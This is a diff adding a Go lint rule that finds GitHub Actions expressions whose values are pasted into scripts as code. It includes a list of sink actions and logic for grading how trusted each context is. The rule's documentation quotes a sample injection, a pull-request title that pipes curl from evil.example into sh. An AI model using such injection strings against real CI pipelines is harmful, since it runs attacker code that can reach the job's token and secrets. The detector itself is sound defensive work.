@@ -1,0 +1,166 @@
+package workflow
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/shipgen/shipgen/lint"
+	"github.com/shipgen/shipgen/schema/node"
+	"github.com/shipgen/shipgen/schema/workflow"
+)
+
+// TemplateInjection finds expressions whose value becomes code.
+var TemplateInjection = &lint.Rule{
+	Name:  "template-injection",
+	Title: "Expression pasted into code",
+	Doc: doc("The runner puts an expression's value into the script before any shell or interpreter reads it. A pull request titled `\"; curl evil.example | sh; \"` then runs as part of the script, with the job's token and secrets.",
+		"- run: echo \"${{ github.event.pull_request.title }}\"", "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}",
+		"Pass the value through the step's env: a variable is data. Text that strangers choose is reported to everybody; inputs, outputs of other steps and branch names, which people with write access choose, to the pedantic audience and the auditor. Numbers, hashes, comparisons and the results of jobs are harmless and are left alone."),
+	Theme: lint.Insecure, Severity: lint.High, Confidence: lint.HighConfidence, Audience: lint.Regular,
+	Kinds: workflowsAndActions, Aliases: []string{"zizmor:template-injection"}, Fixable: true,
+	File: templateInjection,
+}
+
+// sinks are the inputs of actions that are run as code
+// (each action's README); the value is the input.
+var sinks = map[string]string{
+	"actions/github-script":                  "script",
+	"azure/cli":                              "inlinescript",
+	"azure/powershell":                       "inlinescript",
+	"appleboy/ssh-action":                    "script",
+	"nick-fields/retry":                      "command",
+	"nick-invision/retry":                    "command",
+	"cypress-io/github-action":               "command",
+	"mikefarah/yq":                           "cmd",
+	"jannekem/run-python-script-action":      "script",
+	"amadevus/pwsh-script":                   "script",
+	"addnab/docker-run-action":               "run",
+	"reactivecircus/android-emulator-runner": "script",
+	"cross-platform-actions/action":          "run",
+	"vmactions/freebsd-vm":                   "run",
+	"borales/actions-yarn":                   "cmd",
+}
+
+func templateInjection(p *lint.Pass) error {
+	return eachStep(p, func(w *workflow.Workflow, j *workflow.Job, s *workflow.Step) {
+		for _, e := range workflow.Expressions(s.Run) {
+			judgeSink(p, w, j, s, &e, "the script")
+		}
+		if name, ok := sinks[strings.ToLower(s.Action().FullName())]; ok {
+			for _, e := range workflow.Expressions(input(s, name)) {
+				judgeSink(p, w, j, s, &e, "input "+quote(name)+" of "+s.Action().FullName()+", which is run,")
+			}
+		}
+	})
+}
+
+// judgeSink reports the worst context that flows into code.
+func judgeSink(p *lint.Pass, w *workflow.Workflow, j *workflow.Job, s *workflow.Step, e *workflow.Expression, into string) {
+	var worst lint.Finding
+	for _, a := range flows(e) {
+		f := judgeContext(w, j, s, a)
+		if f.Message != "" && (worst.Message == "" || f.Audience < worst.Audience) {
+			worst = f
+		}
+	}
+	if worst.Message == "" {
+		return
+	}
+	worst.Span, worst.Hint = place(p, e), "pass it through the step's env and use the variable"
+	worst.Message = fmt.Sprintf("%s is pasted into %s as code", worst.Message, strings.TrimSuffix(into, ","))
+	if s.Run != nil {
+		worst.Fixes = indirection(p, w, j, s, e)
+	}
+	p.Report(worst)
+}
+
+// judgeContext says what is wrong with a context's text in code; a finding
+// without a message means nothing.
+func judgeContext(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, a access) lint.Finding {
+	named := quote(a.String())
+	switch {
+	case a.in("env"):
+		return judgeEnv(w, j, s, a)
+	case strangersText(w, a):
+		f := lint.Finding{Message: "text that a stranger chooses (" + named + ")", Severity: lint.High, Audience: lint.Regular}
+		if privilegedEvent(w) == nil {
+			f.Severity = lint.Medium
+		}
+		return f
+	case a.in("inputs") || a.in("github", "event", "inputs"):
+		if len(a) > 1 && plainInput(w, a[len(a)-1]) {
+			return lint.Finding{}
+		}
+		return lint.Finding{Message: "input " + named, Severity: lint.Low, Audience: lint.Pedantic, Confidence: lint.MediumConfidence}
+	case a.in("github", "ref_name"), a.in("github", "ref"), a.in("github", "base_ref"), a.in("github", "event", "release"):
+		return lint.Finding{Message: "a name that people with write access choose (" + named + ")", Severity: lint.Low, Audience: lint.Pedantic, Confidence: lint.MediumConfidence}
+	case a.in("steps") && len(a) > 3 && a[2] == "outputs", a.in("needs") && len(a) > 3 && a[2] == "outputs":
+		return lint.Finding{Message: "the output " + named, Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
+	case a.in("matrix") && len(a) > 1 && dynamicMatrix(j):
+		return lint.Finding{Message: "a value of a matrix that is put together at run time (" + named + ")", Severity: lint.Info, Audience: lint.Auditor, Confidence: lint.LowConfidence}
+	}
+	return lint.Finding{}
+}
+
+// judgeEnv follows `${{ env.X }}` to where X is set.
+func judgeEnv(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, a access) lint.Finding {
+	if len(a) < 2 {
+		return lint.Finding{}
+	}
+	value := envNamed(w, j, s, a[1])
+	for _, e := range workflow.Expressions(value) {
+		for _, inner := range flows(&e) {
+			if !inner.in("env") && strangersText(w, inner) {
+				return lint.Finding{
+					Message:  fmt.Sprintf("text that a stranger chooses (%s, by way of %s)", quote(inner.String()), quote(a.String())),
+					Severity: lint.High, Audience: lint.Regular,
+				}
+			}
+		}
+	}
+	return lint.Finding{}
+}
+
+// envNamed is EnvOf without regard to case, which expressions do not tell apart.
+func envNamed(w *workflow.Workflow, j *workflow.Job, s *workflow.Step, name string) *node.Node {
+	for _, env := range []*node.Node{s.Env, j.Env, w.Env} {
+		if env == nil {
+			continue
+		}
+		for _, pair := range env.Pairs {
+			if strings.EqualFold(pair.Key.Text(), name) {
+				return pair.Value
+			}
+		}
+	}
+	return nil
+}
+
+// plainInput says whether an input can only hold what the file says: a number, a
+// boolean, or one of a list.
+func plainInput(w *workflow.Workflow, name string) bool {
+	declared, plain := false, true
+	for _, event := range []string{"workflow_dispatch", "workflow_call"} {
+		inputs := w.Trigger(event).Inputs()
+		if inputs == nil {
+			continue
+		}
+		for _, pair := range inputs.Pairs {
+			if !strings.EqualFold(pair.Key.Text(), name) {
+				continue
+			}
+			declared = true
+			switch pair.Value.Get("type").Text() {
+			case "boolean", "number", "choice", "environment":
+			default:
+				plain = false
+			}
+		}
+	}
+	return declared && plain
+}
+
+// dynamicMatrix says whether any part of a matrix is an expression.
+func dynamicMatrix(j *workflow.Job) bool {
+	return len(workflow.AllExpressions(j.Matrix())) > 0
+}
